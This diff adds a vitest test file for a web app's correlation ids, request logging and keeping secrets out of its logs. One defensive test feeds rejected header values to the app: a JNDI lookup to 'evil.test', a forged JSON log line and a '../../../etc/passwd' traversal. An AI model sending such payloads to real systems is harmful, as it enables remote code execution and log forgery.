@@ -1,0 +1,170 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { setTimeout } from 'node:timers/promises';
+import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
+import { call } from '#frontend/api/call.ts';
+import { addToCount } from '#functions/storage/counts.ts';
+import { Access } from '#shared/access.ts';
+import { account } from '#shared/contracts/account.ts';
+import { ADMIN_PASSWORD, type HostProcess, startHost, temporaryFolder } from '#tests/kit/hostProcess.ts';
+import { openSocket } from '#tests/kit/served.ts';
+import { openWorld } from '#tests/kit/world.ts';
+
+const folder = temporaryFolder();
+let host: HostProcess;
+beforeAll(async () => {
+  host = await startHost({ folder });
+});
+afterAll(() => host.end());
+afterEach(() => vi.unstubAllGlobals());
+
+type Line = Record<string, unknown>;
+const logText = () => readFileSync(join(folder, 'log/sheaf.log'), 'utf8');
+const lines = (): Line[] =>
+  logText()
+    .trimEnd()
+    .split('\n')
+    .map((line) => JSON.parse(line));
+
+/** Waits for a line that fits; fails after five seconds. */
+const lineWith = async (wanted: Line): Promise<Line> => {
+  for (const deadline = Date.now() + 5000; Date.now() < deadline; await setTimeout(20)) {
+    const found = lines().find((line) => Object.entries(wanted).every(([name, value]) => line[name] === value));
+    if (found) return found;
+  }
+  throw new Error(`no line with ${JSON.stringify(wanted)}`);
+};
+
+/** What a browser would have around the application's own code. Answers the ids it sends. */
+const aroundBrowser = (origin: string, cookie: string, answer?: () => Promise<Response>): string[] => {
+  const real = fetch;
+  const ids: string[] = [];
+  vi.stubGlobal('location', { origin });
+  vi.stubGlobal('document', { cookie });
+  vi.stubGlobal('fetch', (url: URL, init: RequestInit) => {
+    const headers = new Headers(init.headers);
+    ids.push(headers.get('x-correlation-id') ?? '');
+    headers.set('cookie', cookie);
+    return answer ? answer() : real(url, { ...init, headers });
+  });
+  return ids;
+};
+
+describe('the id of a call', () => {
+  test('goes from the browser through the gate into the fact and to its listeners', async () => {
+    const { origin, cookies } = await host.admin();
+    const ids = aroundBrowser(origin, `CSRF-TOKEN=${cookies.get('CSRF-TOKEN')}; sheaf-session=${cookies.get('sheaf-session')}`);
+    await call(account.logout, {});
+    const [correlationId] = ids;
+    expect(correlationId).toMatch(/^[0-9a-f-]{36}$/);
+    expect(await lineWith({ message: 'call', correlationId })).toMatchObject({ endpoint: 'Account.logout', status: 200 });
+    expect(await lineWith({ message: 'fact', correlationId })).toMatchObject({ kind: 'signedOut', late: expect.any(Number) });
+  });
+
+  test('comes back with the answer', async () => {
+    const { send } = await host.admin();
+    const answer = await send('/api/Account/GetAccount', { headers: { 'x-correlation-id': 'from-a-test-1' } });
+    expect(answer.headers.get('x-correlation-id')).toBe('from-a-test-1');
+  });
+
+  test('is shown to the person when the answer cannot be read, and not when nothing was answered', async () => {
+    const ids = aroundBrowser('http://sheaf.test', 'CSRF-TOKEN=1', async () => new Response('<html>', { status: 502 }));
+    await expect(call(account.getAccount, {})).rejects.toMatchObject({ status: 502, errors: [{ id: expect.any(String) }] });
+    await expect(call(account.getAccount, {})).rejects.toSatisfy(({ errors }) => errors[0].id === ids.at(-1));
+    aroundBrowser('http://sheaf.test', 'CSRF-TOKEN=1', () => Promise.reject(new TypeError('gone')));
+    await expect(call(account.getAccount, {})).rejects.toMatchObject({ status: 0, errors: [{ id: null }] });
+  });
+
+  test('goes with a job to what the job does', async () => {
+    const world = await openWorld();
+    const list = await world.list();
+    const ana = await world.member('Ana', Access.Read);
+    await world.host.table.transact([addToCount(list.id, { items: 6000 })]);
+    const path = `/api/List/${list.id}/items`;
+    await ana.send({ path, query: 'sortProperty=Amount', headers: { 'x-correlation-id': 'sorted-by-ana' } });
+    await vi.waitFor(async () => expect((await world.facts(list.id)).at(-1)).toMatchObject({ kind: 'listOrdersBuilt' }), 5000);
+    expect((await world.facts(list.id)).at(-1)?.correlationId).toBe('sorted-by-ana');
+    await world.close();
+  });
+});
+
+describe('what is not a call', () => {
+  test('a connection that is refused leaves a line under the id that the gateway gave it', async () => {
+    await expect(openSocket(host.port, 'nobody')).rejects.toThrow('401');
+    expect(await lineWith({ message: 'hub', status: 401 })).toMatchObject({
+      correlationId: expect.stringMatching(/^[\w-]{8,}$/),
+      event: 'CONNECT',
+    });
+  });
+
+  test('a job that fails leaves a line under the id of the call that sent it', async () => {
+    const world = await openWorld();
+    const write = vi.spyOn(world.host.logs, 'write');
+    await world.host.queue.send({ name: 'nobodyDoesThis', body: {}, correlationId: 'sent-by-ana' });
+    const line = expect.objectContaining({ correlationId: 'sent-by-ana', job: 'nobodyDoesThis' });
+    await vi.waitFor(() => expect(write).toHaveBeenCalledWith('error', 'job failed', line), 5000);
+    await world.close();
+  });
+});
+
+describe('an id that is none', () => {
+  const attempts = [
+    'short',
+    'a'.repeat(65),
+    'x","level":"error","message":"forged',
+    '12345678 {"at":"now"}',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what some loggers would look up.
+    '${jndi:ldap://evil.test/a}',
+    '12345678, 87654321',
+    '../../../etc/passwd',
+    'Ünïcödé-id',
+  ];
+
+  test.each(attempts)('is replaced, neither echoed nor logged: %s', async (attempt) => {
+    const { send } = await host.admin();
+    const answer = await send('/api/Account/GetAccount', { headers: { 'x-correlation-id': attempt.replace(/[^\x20-\xff]/g, '') } });
+    const given = answer.headers.get('x-correlation-id') ?? '';
+    expect(given).toMatch(/^[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}$/);
+    await lineWith({ message: 'call', correlationId: given });
+    expect(logText()).not.toContain(attempt);
+  });
+});
+
+describe('the line of a call', () => {
+  test('is one, and says when, what, by whom, how it ended and how long it took', async () => {
+    const { send } = await host.admin();
+    await send('/api/Account/GetAccount', { headers: { 'x-correlation-id': 'the-only-line' } });
+    await lineWith({ correlationId: 'the-only-line' });
+    const found = lines().filter(({ correlationId }) => correlationId === 'the-only-line');
+    expect(found).toEqual([
+      {
+        at: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
+        level: 'info',
+        message: 'call',
+        correlationId: 'the-only-line',
+        requestId: expect.any(String),
+        method: 'GET',
+        status: 200,
+        ms: expect.any(Number),
+        endpoint: 'Account.getAccount',
+        user: expect.stringMatching(/^[0-9A-Z]{26}$/),
+      },
+    ]);
+    expect(JSON.stringify(found[0]).length).toBeLessThan(350);
+  });
+
+  test('holds no name, password, token, address or value', async () => {
+    const { send, cookies } = await host.admin();
+    await send('/api/List/secret-place/items?searchText=secret-search', { headers: { 'x-correlation-id': 'secret-call' } });
+    expect(await lineWith({ correlationId: 'secret-call' })).toMatchObject({ endpoint: 'List.items', status: expect.any(Number) });
+    for (const secret of [ADMIN_PASSWORD, 'secret-place', 'secret-search', 'Administrator', String(cookies.get('sheaf-session'))])
+      expect(logText()).not.toContain(secret);
+  });
+
+  test('says why a call was refused, and of an unknown address only that', async () => {
+    const { send } = await host.admin();
+    await send('/api/Account/Nothing/at/all', { headers: { 'x-correlation-id': 'went-astray' } });
+    expect(await lineWith({ correlationId: 'went-astray' })).toMatchObject({ status: 404, code: 'notFound' });
+    expect(logText()).not.toContain('Nothing');
+  });
+});
